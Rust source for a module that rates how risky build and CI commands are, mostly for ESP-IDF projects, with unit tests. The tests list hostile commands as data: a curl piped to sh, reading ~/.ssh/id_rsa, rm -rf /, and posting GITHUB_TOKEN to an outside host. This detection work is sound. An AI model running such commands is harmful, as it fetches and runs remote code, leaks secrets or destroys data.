//! How much it matters that a command runs on the developer's machine.
//!
//! Owns the judging by programs, with the lists in `assets/findings/programs.toml`, and the names
//! of hosts. Must not know where a command stands.

use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use crate::model::FindingLevel;

/// Characters of a command that are shown.
const SHOWN: usize = 60;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Programs {
    harmless: HashSet<String>,
    dangerous: HashSet<String>,
    interpreters: HashSet<String>,
    git_reads: HashSet<String>,
    cmake_tools: HashSet<String>,
    efuse_reads: HashSet<String>,
    tool_packages: HashSet<String>,
    publishers: HashSet<String>,
}

static PROGRAMS: LazyLock<Option<Programs>> =
    LazyLock::new(|| toml::from_str(include_str!("../../../assets/findings/programs.toml")).ok());

static HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(?:[a-z][a-z0-9+]*://(?:[^/\s"'@]*@)?|\bgit@|\bssh\s+(?:-\S+\s+)*(?:\w+@)?)([a-z0-9][a-z0-9.-]*\.[a-z0-9-]+|localhost|\d+\.\d+\.\d+\.\d+|\[[0-9a-f:]+\])|\b(?:github|gitlab|bitbucket):(?P<short>[\w.-]+/[\w.-]+)"#,
    )
    .ok()
});

/// The host that a text names in an address.
pub(super) fn host(text: &str) -> Option<String> {
    let captures = HOST.as_ref()?.captures(text)?;
    match captures.get(1) {
        Some(host) => Some(host.as_str().to_ascii_lowercase()),
        None => Some("github.com".to_owned()),
    }
}

/// A text as it is shown: one line, not long, without control characters.
pub(super) fn shown(text: &str) -> String {
    let mut out = String::new();
    for word in text.split_whitespace() {
        if !out.is_empty() {
            out.push(' ');
        }
        out.extend(word.chars().filter(|c| !c.is_control() && *c != '`'));
        if out.chars().count() > SHOWN {
            let mut short: String = out.chars().take(SHOWN - 1).collect();
            short.push('…');
            return short;
        }
    }
    out
}

/// How heavy it is to run a command line.
pub(super) fn judge(command: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    if is_colour(command) {
        return FindingLevel::Note;
    }
    if host(command).is_some_and(|host| host != "localhost" && host != "127.0.0.1") {
        return FindingLevel::Stop;
    }
    if ["`", "/dev/tcp", "/dev/sd", "/etc/", "~/.", "$HOME/.", ".ssh", ".bashrc", "\\x"]
        .iter()
        .any(|part| command.contains(part))
    {
        return FindingLevel::Stop;
    }
    let mut level = FindingLevel::Note;
    for part in split(&without_variables(command)) {
        level = level.max(judge_one(programs, part));
    }
    level
}

/// Whether a command only gives a name to a colour of the terminal: `RED='\033[1;31m'`.
fn is_colour(command: &str) -> bool {
    let Some((name, value)) = command.trim().split_once('=') else { return false };
    let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    let value = value.trim_start_matches('$').trim_matches(['"', '\'']);
    let codes = ["\\033[", "\\e[", "\\x1b[", "\\E["];
    let inner = codes.iter().find_map(|code| value.strip_prefix(code));
    is_name
        && inner
            .and_then(|inner| inner.strip_suffix('m'))
            .is_some_and(|codes| codes.bytes().all(|byte| byte.is_ascii_digit() || byte == b';'))
}

/// A line of make with its variables, `$(PORT)`, as a shell writes them.
fn without_variables(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some((before, after)) = rest.split_once("$(") {
        out.push_str(before);
        let name = after.split(')').next().unwrap_or_default();
        let is_name = after.len() > name.len()
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
        // `$(pwd)` is a command.
        let is_variable = is_name && name.bytes().any(|byte| byte.is_ascii_uppercase());
        if is_variable {
            out.push_str(&format!("${{{name}}}"));
            rest = after.get(name.len() + 1..).unwrap_or_default();
        } else {
            out.push_str("$(");
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

/// The commands of a line: what separators and substitutions start.
fn split(line: &str) -> Vec<&str> {
    const SEPARATORS: [&str; 9] = ["&&", "||", ";", "|", "$(", "&\n", "\n", "<(", "& "];
    let quoted = quoted_parts(line);
    let mut parts = Vec::new();
    let (mut start, mut at) = (0, 0);
    while let Some(rest) = line.get(at..).filter(|rest| !rest.is_empty()) {
        let quote = quoted.iter().find(|(range, _)| range.contains(&at)).map(|(_, quote)| *quote);
        let found = SEPARATORS.iter().find(|separator| rest.starts_with(**separator));
        // In double quotes a shell still carries out substitutions.
        let counts =
            |separator: &&&str| quote.is_none() || quote == Some('"') && **separator == "$(";
        if let Some(separator) = found.filter(counts) {
            parts.push(line.get(start..at).unwrap_or_default());
            at += separator.len();
            start = at;
        } else {
            at += rest.chars().next().map_or(1, char::len_utf8);
        }
    }
    parts.push(line.get(start..).unwrap_or_default());
    parts
}

/// The parts of a line in quotes, with their quotes; none when the line as a whole is in quotes, or
/// a quote stays open.
fn quoted_parts(line: &str) -> Vec<(Range<usize>, char)> {
    let mut parts = Vec::new();
    let mut open: Option<(usize, char)> = None;
    let mut is_kept = false;
    for (at, c) in line.char_indices() {
        if std::mem::take(&mut is_kept) {
            continue;
        }
        match (open, c) {
            (Some((_, '"')) | None, '\\') => is_kept = true,
            (Some((start, quote)), c) if c == quote => {
                parts.push((start..at, quote));
                open = None;
            }
            (None, '"' | '\'') => open = Some((at, c)),
            _ => {}
        }
    }
    let is_whole = line.trim_start_matches([' ', '\t', '[', '(']).starts_with(['"', '\'']);
    if open.is_some() || is_whole { Vec::new() } else { parts }
}

fn judge_one(programs: &Programs, command: &str) -> FindingLevel {
    let is_quote = |c: char| matches!(c, '"' | '\'' | '(' | ')' | '[' | ']' | ',' | '{' | '}');
    let words: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || c == ',')
        .map(|word| {
            match word.starts_with("${") || word.starts_with("$(") || word == "[" || word == "[[" {
                true => word,
                false => word.trim_matches(is_quote),
            }
        })
        .filter(|word| !word.is_empty())
        .collect();
    let mut rest = words.as_slice();
    // Keywords of the shell, and variables that are set for the command.
    while let Some((first, after)) = rest.split_first() {
        let is_keyword = matches!(
            *first,
            "if" | "then"
                | "else"
                | "elif"
                | "fi"
                | "for"
                | "while"
                | "until"
                | "do"
                | "done"
                | "case"
                | "esac"
                | "in"
                | "!"
                | "function"
                | "time"
                | "@"
                | "-"
                | "+"
                | "COMMAND"
                | "shell"
                | "pipe"
        );
        let is_loop = matches!(*first, "for" | "case" | "function");
        if is_loop {
            return FindingLevel::Note;
        }
        let name = first.split('=').next().unwrap_or_default();
        let is_variable = first.contains('=')
            && !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '+');
        if !is_keyword && !is_variable {
            break;
        }
        rest = after;
    }
    let Some((program, arguments)) = rest.split_first() else { return FindingLevel::Note };
    program_level(programs, program, arguments)
}

fn program_level(programs: &Programs, program: &str, arguments: &[&str]) -> FindingLevel {
    let first = arguments.first().copied().unwrap_or_default();
    let is_path = program.contains('/') && !program.starts_with("${");
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let lower = name.to_ascii_lowercase();
    let lower = lower.strip_suffix(".exe").unwrap_or(&lower);
    let is_in = |set: &HashSet<String>| set.contains(lower) || set.contains(program);
    if lower == "git" || program.eq_ignore_ascii_case("${GIT_EXECUTABLE}") {
        let mut words = arguments.iter().filter(|word| !matches!(**word, "-C" | "."));
        let verb = words.find(|word| {
            !word.starts_with("--git-dir") && !word.contains('/') && !word.starts_with('$')
        });
        let reads = verb.is_some_and(|verb| programs.git_reads.contains(*verb));
        return if reads { FindingLevel::Note } else { FindingLevel::Stop };
    }
    if lower == "cmake" || program == "${CMAKE_COMMAND}" {
        return cmake(programs, arguments);
    }
    if is_in(&programs.interpreters) {
        return python(arguments);
    }
    if is_in(&programs.dangerous) {
        return match (lower, first) {
            // A script that lies in the project is on the screen when it changes.
            ("env" | "exec", _) if arguments.len() > 1 => {
                program_level(programs, first, arguments.get(1..).unwrap_or_default())
            }
            ("source" | ".", first) if first.contains("export.sh") => FindingLevel::Note,
            ("xargs", _) => {
                let at =
                    arguments.iter().position(|word| !word.starts_with('-') && !is_number(word));
                let (program, rest) =
                    at.and_then(|at| arguments.get(at..)?.split_first()).unwrap_or((&"echo", &[]));
                // What it reads from its input comes behind the others.
                let rest: Vec<&str> = rest.iter().copied().chain(["{}"]).collect();
                program_level(programs, program, &rest)
            }
            ("espefuse" | "espefuse.py", _) if reads_efuses(programs, arguments) => {
                FindingLevel::Note
            }
            ("rm" | "rmdir", _) if arguments.iter().all(|a| is_of_build(a)) => FindingLevel::Note,
            _ => FindingLevel::Stop,
        };
    }
    if lower == "find" {
        return find_level(programs, arguments);
    }
    if is_in(&programs.harmless)
        && !(is_path && !program.starts_with("/usr/bin/") && !program.starts_with("/bin/"))
    {
        let reaches_out = arguments.iter().any(|a| a.starts_with("/etc") || a.starts_with("~"));
        return if reaches_out { FindingLevel::Warning } else { FindingLevel::Note };
    }
    FindingLevel::Warning
}

fn is_number(word: &str) -> bool {
    word.bytes().all(|byte| byte.is_ascii_digit())
}

/// Whether `espefuse` with these arguments only reads.
fn reads_efuses(programs: &Programs, arguments: &[&str]) -> bool {
    let changes = |word: &&str| {
        ["burn", "write", "set_", "read_protect", "execute"].iter().any(|verb| word.contains(verb))
    };
    arguments.iter().any(|word| programs.efuse_reads.contains(*word))
        && !arguments.iter().any(changes)
}

/// `find`, which tells unless it deletes or runs something.
fn find_level(programs: &Programs, arguments: &[&str]) -> FindingLevel {
    let runs = |word: &&str| matches!(*word, "-exec" | "-execdir" | "-ok" | "-okdir");
    if let Some(at) = arguments.iter().position(runs) {
        let Some((program, rest)) = arguments.get(at + 1..).and_then(<[&str]>::split_first) else {
            return FindingLevel::Warning;
        };
        return program_level(programs, program, rest);
    }
    let writes =
        arguments.iter().any(|word| matches!(*word, "-delete" | "-fprint" | "-fls" | "-fprintf"));
    if writes { FindingLevel::Warning } else { FindingLevel::Note }
}

/// How heavy it is that a CI server runs a command line: what it installs and holds is not the
/// developer's, but it has keys.
pub(super) fn judge_on_server(command: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    let has_keys = ["secrets.", "github.event", "_TOKEN", "_PASSWORD", "_KEY", "github.token"];
    let takes_keys = has_keys.iter().any(|name| command.contains(name));
    let least = match takes_keys || makes_something(command) {
        true => FindingLevel::Warning,
        false => FindingLevel::Note,
    };
    match installs_tools(programs, command) {
        true => least,
        false => judge(command).max(least),
    }
}

/// Whether `make` is called for a target that is not one of building and testing.
fn makes_something(command: &str) -> bool {
    const USUAL: [&str; 9] =
        ["all", "build", "test", "tests", "check", "lint", "clean", "size", "format"];
    split(command).into_iter().any(|part| {
        let mut words = part.split_whitespace();
        let is_make = matches!(words.next(), Some("make" | "gmake"));
        is_make
            && words
                .any(|word| !word.starts_with('-') && !word.contains('=') && !USUAL.contains(&word))
    })
}

/// Whether a line does nothing but install known tools with pip.
fn installs_tools(programs: &Programs, command: &str) -> bool {
    let words: Vec<&str> = command.split_whitespace().collect();
    let packages = match words.as_slice() {
        ["pip" | "pip3", "install", rest @ ..]
        | ["python" | "python3", "-m", "pip", "install", rest @ ..] => rest,
        _ => return false,
    };
    let is_known = |word: &&str| {
        let word = word.trim_matches(['"', '\'']);
        let name = word.split(['=', '<', '>', '~', '!', '[']).next().unwrap_or(word);
        matches!(word, "-U" | "--upgrade" | "--user" | "--quiet" | "-q")
            || programs.tool_packages.contains(&name.to_ascii_lowercase())
    };
    !packages.is_empty() && packages.iter().all(is_known)
}

/// How heavy it is that a CI server uses an action or an image of somebody's.
pub(super) fn judge_source(name: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    let name = name.trim_matches(['"', '\'']);
    let publisher = name.split_once('/').map(|(publisher, _)| publisher);
    let is_usual = publisher.is_some_and(|publisher| programs.publishers.contains(publisher));
    let is_own = name.starts_with("./");
    if is_usual || is_own { FindingLevel::Note } else { FindingLevel::Warning }
}

fn is_of_build(argument: &str) -> bool {
    argument.starts_with('-')
        || matches!(
            argument.trim_end_matches('/'),
            "build" | "sdkconfig" | "sdkconfig.old" | "managed_components" | "dependencies.lock"
        )
        || (argument.starts_with("build/") && !argument.contains(".."))
}

fn cmake(programs: &Programs, arguments: &[&str]) -> FindingLevel {
    match arguments {
        ["-E", "env", rest @ ..] | ["-E", "chdir", _, rest @ ..] | ["-E", "time", rest @ ..] => {
            let at = rest.iter().position(|word| !word.contains('=') && !word.starts_with("--"));
            let rest = at.and_then(|at| rest.get(at..)).unwrap_or_default();
            let Some((program, arguments)) = rest.split_first() else { return FindingLevel::Note };
            program_level(programs, program, arguments)
        }
        ["-E", tool, ..] if programs.cmake_tools.contains(*tool) => FindingLevel::Note,
        ["-E", ..] | ["-P", ..] => FindingLevel::Warning,
        [.., "-P", _] => FindingLevel::Warning,
        _ => FindingLevel::Note,
    }
}

fn python(arguments: &[&str]) -> FindingLevel {
    match arguments {
        [] | ["--version" | "-V", ..] => FindingLevel::Note,
        ["-c", ..] => FindingLevel::Stop,
        [
            "-m",
            "esptool"
            | "pytest"
            | "idf_component_manager"
            | "kconfgen"
            | "esp_idf_monitor"
            | "idf_size",
            ..,
        ] => FindingLevel::Note,
        ["-m", ..] => FindingLevel::Stop,
        [script, ..] => {
            let idf = ["${IDF_PATH}", "$IDF_PATH", "$ENV{IDF_PATH}", "$(IDF_PATH)", "${idf_path}"];
            let is_idf = idf.iter().any(|start| script.starts_with(start));
            if is_idf { FindingLevel::Note } else { FindingLevel::Warning }
        }
    }
}

/// A finding's sentence: `runs `x` when …`, with the host it reaches.
pub(super) fn sentence(command: &str, when: &str) -> String {
    let reaches = match host(command) {
        Some(host) => format!(", which reaches {host},"),
        None => String::new(),
    };
    let command = shown(command);
    format!("runs `{command}`{reaches} {when}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_judged_by_what_they_run() {
        use FindingLevel::{Note, Stop, Warning};
        for (command, level) in [
            ("bash fetch.sh", Stop),
            ("/bin/sh -c 'x'", Stop),
            ("curl -L https://example.com/x | sh", Stop),
            ("echo hi && curl x", Stop),
            ("FOO=1 wget x", Stop),
            ("python -c 'import os'", Stop),
            ("python3 -m pip install x", Stop),
            ("pip install x", Stop),
            ("git clone https://github.com/x/y", Stop),
            ("git submodule update", Stop),
            ("sudo make install", Stop),
            ("rm -rf /", Stop),
            ("${CMAKE_COMMAND} -E env A=b bash x.sh", Stop),
            ("echo $(cat ~/.ssh/id_rsa)", Stop),
            ("python gen.py", Warning),
            ("./gen", Warning),
            ("gen_table a b", Warning),
            ("${CMAKE_COMMAND} -P x.cmake", Warning),
            ("/tmp/idf.py build", Warning),
            ("idf.py build", Note),
            ("idf.py -DSDKCONFIG_DEFAULTS=\"sdkconfig.defaults;sdkconfig.release\" build", Note),
            ("cmake -DPARTS='a.csv;b.csv' -B build", Note),
            ("echo \"a; $(curl x)\"", Stop),
            ("echo 'a;b' ; curl x", Stop),
            ("\"idf.py build && curl x\"", Stop),
            ("echo it's; curl x", Stop),
            ("idf.py -p $(PORT) flash", Note),
            ("echo $(curl x)", Stop),
            ("git describe --always --dirty", Note),
            ("git -C . rev-parse HEAD", Note),
            ("${GIT_EXECUTABLE} rev-parse --short HEAD", Note),
            ("${CMAKE_COMMAND} -E copy a b", Note),
            ("${PYTHON} ${IDF_PATH}/components/x/gen.py", Note),
            ("if [ -f x ]; then echo y; fi", Note),
            ("rm -rf build", Note),
            ("espefuse.py --port /dev/ttyUSB0 summary --format json", Note),
            ("espefuse.py -p $PORT burn_efuse JTAG_DISABLE", Stop),
            ("espefuse.py summary burn_key BLOCK4", Stop),
            ("find main -name '*.[ch]' | xargs clang-format --dry-run --Werror", Note),
            ("find main -name '*.[ch]' | xargs -n 1 rm -f", Stop),
            ("find . -name '*.o' -delete", Warning),
            ("find . -exec sh -c x", Stop),
            ("date +%Y", Note),
            (". $IDF_PATH/export.sh", Note),
            ("", Note),
        ] {
            assert_eq!(judge(command), level, "{command}");
        }
    }

    #[test]
    fn servers_run_what_builds_and_tests_without_a_word() {
        use FindingLevel::{Note, Stop, Warning};
        for (command, level) in [
            ("idf.py size --format json", Note),
            ("grep -rn \"TODO\" main || true", Note),
            ("pip install platformio==6.1.15", Note),
            ("python -m pip install --upgrade pip esptool", Note),
            ("pip install platformio left-pad", Stop),
            ("pip install https://example.com/platformio", Stop),
            ("echo ${{ secrets.DEPLOY }} | rev", Warning),
            ("curl -d \"$GITHUB_TOKEN\" https://example.com", Stop),
            ("./deploy", Warning),
            ("make -j8 all check", Note),
            ("make deploy", Warning),
        ] {
            assert_eq!(judge_on_server(command), level, "{command}");
        }
        for (name, level) in [
            ("actions/checkout@v4", Note),
            ("espressif/idf:v5.4.1", Note),
            ("./.github/actions/build", Note),
            ("somebody/setup-esp@v1", Warning),
            ("registry.example.com/espressif/idf:v5", Warning),
        ] {
            assert_eq!(judge_source(name), level, "{name}");
        }
    }

    #[test]
    fn hosts_are_read_from_addresses() {
        for (text, wanted) in [
            ("https://github.com/a/b.git", Some("github.com")),
            ("git@gitlab.com:a/b.git", Some("gitlab.com")),
            ("https://user:pw@evil.example/x", Some("evil.example")),
            ("git+ssh://git@10.0.0.1/x", Some("10.0.0.1")),
            ("github:a/b", Some("github.com")),
            ("idf.py build", None),
        ] {
            assert_eq!(host(text).as_deref(), wanted, "{text}");
        }
        assert!(
            sentence("curl https://x.example/a", "when it is built").contains("reaches x.example")
        );
        assert_eq!(shown("a\u{1b}[2J\n b"), "a[2J b");
    }
}
